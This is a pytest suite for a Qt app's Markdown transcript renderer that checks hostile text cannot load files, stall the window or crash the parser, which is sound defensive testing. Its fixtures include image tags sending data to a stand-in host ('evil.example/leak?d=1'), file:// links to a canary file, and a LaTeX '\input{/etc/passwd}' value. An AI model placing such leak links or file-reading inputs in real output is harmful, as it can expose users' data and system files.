"""Hostile Markdown: nothing is loaded, nothing stalls, nothing crashes."""

from __future__ import annotations

import ctypes
import gc
import os
import random
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import QElapsedTimer, QObject, Qt, QTimer, QUrl, qVersion
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QLabel
from pytestqt.qtbot import QtBot

from desktop.qt.app import MIN_QT
from desktop.qt.transcript.blocks import BlockSplitter
from desktop.qt.transcript.inlines import InlineReader
from desktop.qt.transcript.markdown import make_parser
from desktop.qt.transcript.math import FormulaKey, draw_formula
from desktop.qt.transcript.prose import ProseBlock, ProseBrowser
from desktop.qt.transcript.reading import read_pieces
from desktop.qt.transcript.view import TranscriptView
from tests.qt.transcript.conftest import answer

MEGABYTE = 1_000_000
IN_OPEN = 0x20
Settled = Callable[[], None]
SLOWEST_MS = 200.0


class Heartbeat(QObject):
    """Notes how late its beats are, as far as this thread was at work: other programs on this machine do not count."""

    def __init__(self) -> None:
        super().__init__()
        self.worst_ms = 0.0
        self._worked = time.thread_time()
        self._clock = QElapsedTimer()
        self._timer = QTimer(self)
        self._timer.setTimerType(Qt.TimerType.PreciseTimer)
        self._timer.setInterval(5)
        self._timer.timeout.connect(self._beat)
        self._clock.start()
        self._timer.start()

    def _beat(self) -> None:
        now = time.thread_time()
        late_ms = min(self._clock.nsecsElapsed() / 1e6 - 5, (now - self._worked) * 1000)
        self.worst_ms = max(self.worst_ms, late_ms)
        self._worked = now
        self._clock.start()

    def stop(self) -> None:
        self._timer.stop()


class Canary:
    """A file that notes every time something opens it (inotify)."""

    def __init__(self, path: Path) -> None:
        self.path = path
        path.write_bytes(b"not to be read")
        libc = ctypes.CDLL(None, use_errno=True)
        self._watch = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        assert libc.inotify_add_watch(self._watch, str(path).encode(), IN_OPEN) >= 0

    def opened(self) -> bool:
        try:
            return bool(os.read(self._watch, 4096))
        except BlockingIOError:
            return False

    def close(self) -> None:
        os.close(self._watch)


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[Canary]:
    made = Canary(tmp_path / "canary.png")
    yield made
    made.close()


@pytest.mark.skipif(sys.platform != "linux", reason="inotify is Linux's")
def test_the_canary_sings(canary: Canary) -> None:
    assert not canary.opened()
    canary.path.read_bytes()
    assert canary.opened()


@pytest.mark.accept(20)
@pytest.mark.skipif(sys.platform != "linux", reason="inotify is Linux's")
def test_no_text_makes_the_widgets_load_anything(view: TranscriptView, settled: Settled, canary: Canary) -> None:
    path = canary.path
    view.set_messages(
        [
            answer(
                1,
                f"![a](file://{path}) ![b]({path}) ![c][r] <img src='file://{path}'>\n\n"
                f"<img src='https://evil.example/x.png'>\n\n<link rel=stylesheet href='file://{path}'>\n\n"
                f"| ![t](file://{path}) |\n|---|\n| <img src='{path}'> |\n\n"
                f"- ![l](file://{path})\n\n> ![q](https://evil.example/leak?d=1)\n\n[r]: file://{path}\n",
            )
        ]
    )
    settled()
    browsers = view.viewport().findChildren(ProseBrowser)
    assert browsers
    for browser in browsers:
        for address in (f"file://{path}", str(path), "https://evil.example/x.png"):
            for kind in QTextDocument.ResourceType:
                assert bytes(browser.loadResource(kind.value, QUrl(address))) == b""
                assert bytes(browser.document().resource(kind.value, QUrl(address))) == b""
        assert "<img" not in browser.document().toHtml().replace("&lt;img", "")
        assert not browser.openLinks() and not browser.openExternalLinks()
    assert not canary.opened()
    assert all(label.textFormat() == Qt.TextFormat.PlainText for label in view.findChildren(QLabel))


HOSTILE: dict[str, str] = {
    "one fence": "```python\n" + "x = 1 # foo\n" * (MEGABYTE // 12),
    "fences": "```python\nx = 1\n```\n\n" * (MEGABYTE // 21),
    "table": "|a|b|c|\n|-|-|-|\n" + "|x|y|z|\n" * 3000,
    "great table": "|a|b|c|\n|-|-|-|\n" + "|x|y|z|\n" * (MEGABYTE // 8),
    "deep quotes": (">" * 60 + " a\n") * (MEGABYTE // 63),
    "nested html tables": "<table><tr><td>" * (MEGABYTE // 15),
    "html lines": "<table><tr><td>\n" * (MEGABYTE // 16),
    "one line": "word *a* `b` " * (MEGABYTE // 13),
    "no space": "x" * MEGABYTE,
    "open links": "[a](b" * (MEGABYTE // 5),
    "open brackets": "![[" * (MEGABYTE // 3),
    "list": "- item *x* `y`\n" * (MEGABYTE // 15),
    "deep list": "".join("  " * (i % 40) + "- item\n" for i in range(MEGABYTE // 47)),
    "paragraphs": "a *b* c\n\n" * (MEGABYTE // 9),
    "definitions": "[a]: http://b\n" * (MEGABYTE // 14),
    "emphasis": "*a **b " * (MEGABYTE // 7),
    "formulas": "$x^2$ and $$y$$ " * (MEGABYTE // 16),
    "headings": "# a\n" * (MEGABYTE // 4),
    "scripts": "日本語 𝒜 text \u202ertl " * (MEGABYTE // 17),
}


@pytest.fixture
def heartbeat() -> Iterator[Heartbeat]:
    gc.collect()
    gc.freeze()  # what a thousand tests before this one have left is no window's garbage to walk through
    beats = Heartbeat()
    yield beats
    beats.stop()
    gc.unfreeze()


@pytest.mark.slow
@pytest.mark.accept(22)
@pytest.mark.parametrize("name", HOSTILE)
def test_a_megabyte_of_hostile_markdown_never_stalls_the_window(
    qtbot: QtBot, view: TranscriptView, settled: Settled, name: str, heartbeat: Heartbeat
) -> None:
    view.set_messages([answer(1, HOSTILE[name])])
    qtbot.waitUntil(lambda: not view.busy and view.rows.rows[0].complete, timeout=60_000)
    bar = view.verticalScrollBar()
    for step in range(4):
        bar.setValue(bar.maximum() * step // 4)
        settled()
    assert heartbeat.worst_ms < SLOWEST_MS


@pytest.mark.accept(22)
def test_five_thousand_random_texts_do_not_crash() -> None:
    parser = make_parser()
    dice = random.Random(22)
    alphabet = [*"abc *_`~[]()<>!#-+.|\\\"'$&;:/=\t\n\n 1\u2029\u202e\ufdd0\ufffc\x00𝒜é", "```\n", "\n\n", "](", "$$"]
    for _ in range(5000):
        text = "".join(dice.choices(alphabet, k=dice.randrange(1, 120)))
        splitter = BlockSplitter(parser)
        while text:
            cut = dice.randrange(1, 40)
            splitter.feed(text[:cut])
            text = text[cut:]
            splitter.advance()
        splitter.end()
        while splitter.advance():
            pass
        reader = InlineReader(parser, splitter.references, (1,))
        for block in splitter.blocks:
            read_pieces(block, reader)


@pytest.mark.accept(22)
def test_two_hundred_random_texts_are_shown(view: TranscriptView, settled: Settled) -> None:
    dice = random.Random(23)
    alphabet = [*"ab *_`~[]()<>!#-+.|\\$&\t\n\n 1\u2029\u202e\ufdd0\ufffc\x00𝒜é", "```\n", "\n\n", "](", "|-|-|\n"]
    messages = [answer(n, "".join(dice.choices(alphabet, k=300))) for n in range(200)]
    view.set_messages(messages)
    settled()
    for row in range(0, 200, 3):
        view.scroll_to(row)
    settled()
    for frame, _ in view.stage.in_reading_order():
        for widget in frame.widgets.values():
            if isinstance(widget, ProseBlock):
                assert "\ufdd0" not in widget.browser.toPlainText()


@pytest.mark.parametrize("source", ["\\notacommand{", "{" * 500, "x" * 5000, "\\frac{1}", "", "\\input{/etc/passwd}"])
def test_a_formula_that_cannot_be_set_is_no_error(source: str) -> None:
    began = time.perf_counter()
    draw_formula(FormulaKey(source, "#000000", 18, 1.0, True))
    assert time.perf_counter() - began < 5


@pytest.mark.parametrize(
    "source",
    [
        "x^2",
        "\\frac{a}{b}",
        "\\sum_{i=0}^n x_i",
        "\\int_0^1 x\\,dx",
        "\\sqrt{2}",
        "e^{i\\pi}+1=0",
        "\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}",
        "\\alpha\\beta",
        "\\vec{v}\\cdot\\hat{u}",
    ],
)
def test_formulas_are_drawn(source: str) -> None:
    picture = draw_formula(FormulaKey(source, "#000000", 18, 2.0, True))
    assert picture.image is not None
    assert picture.image.devicePixelRatio() == 2.0
    size = picture.image.size()
    assert any(picture.image.pixelColor(x, y).alpha() for x in range(size.width()) for y in range(size.height()))


@pytest.mark.accept(22)
def test_the_qt_that_runs_is_new_enough_and_an_older_one_is_refused_at_the_start() -> None:
    assert MIN_QT >= (6, 8, 4)
    assert tuple(int(part) for part in qVersion().split(".")[:3]) >= MIN_QT
